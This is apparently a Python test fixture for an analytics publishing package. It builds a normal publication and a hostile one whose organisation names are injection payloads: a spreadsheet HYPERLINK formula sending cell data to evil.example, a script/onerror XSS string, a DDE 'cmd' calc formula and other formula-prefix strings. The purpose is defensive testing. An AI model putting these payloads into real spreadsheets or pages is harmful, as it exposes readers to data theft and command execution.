"""Publications to be packed: one of a real store, and one of somebody who means harm."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import polars as pl

from sfg_analytics.measures import CATALOGUE, ties
from sfg_analytics.publication import Publication, write_publication
from sfg_analytics.publish import publish
from sfg_analytics.statistics import estimate
from sfg_analytics.store import Store
from tests.publication.made import CODES, contents
from tests.publish.made import CONTRACTS, fill, plan_of

HOSTILE = {
    "ZZA": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "ZZB": "<script>document.title='stolen'</script><img src=//evil.example/x onerror=alert(1)>",
    "ZZC": "[click here](http://evil.example/) $$coverage$$",
    "ZZD": "+1+cmd|' /C calc'!A0",
    "ZZE": "@SUM(1+1)",
    "ZZF": "\t=1+1\r\n–",
}
SURVEY = "survey_q15"


def real(folder: Path) -> Publication:
    """Publish a store of six organisations of different sizes."""
    fill(Store(folder / "store"), {f"ZZ{letter}": 90 + 40 * place for place, letter in enumerate("ABCDEF")})
    plan = plan_of(folder, peers="named")
    (written,) = publish(folder / "store", folder / "publication", plan=plan, contracts=CONTRACTS)
    return written.publication


def hostile(folder: Path) -> Publication:
    """Publish by hand, with names that somebody hopes will be obeyed, some figures hidden, and a survey."""
    made: dict[str, Any] = contents(hidden=True)
    codes = {"organisation": CODES, "name": [HOSTILE[code] for code in CODES]}
    made["organisations"] = (
        made["organisations"]
        .drop("name")
        .join(pl.DataFrame(codes), on="organisation", how="left")
        .select("organisation", "name", "kind")
    )
    said = (
        made["estimates"]
        .filter(pl.col("breakdown") == "")
        .filter(pl.col("period") == pl.col("period").max())
        .with_columns(
            measure=pl.lit(SURVEY), numerator=pl.lit(333, pl.Int64), denominator=pl.lit(611, pl.Int64)
        )
    )
    columns = made["estimates"].columns
    said = estimate(said.drop("value", "lower", "upper", "method")).select(columns)
    made["estimates"] = pl.concat([made["estimates"], said])
    words = CATALOGUE[SURVEY].as_json(CONTRACTS)
    made["measures"] = [*made["measures"], {**words, "kind": "proportion", "rows": "survey", "tables": []}]
    made["manifest"]["described"] = ties([CATALOGUE["coverage"], CATALOGUE[SURVEY]], CONTRACTS)
    return write_publication(folder / "publication", **made).publication
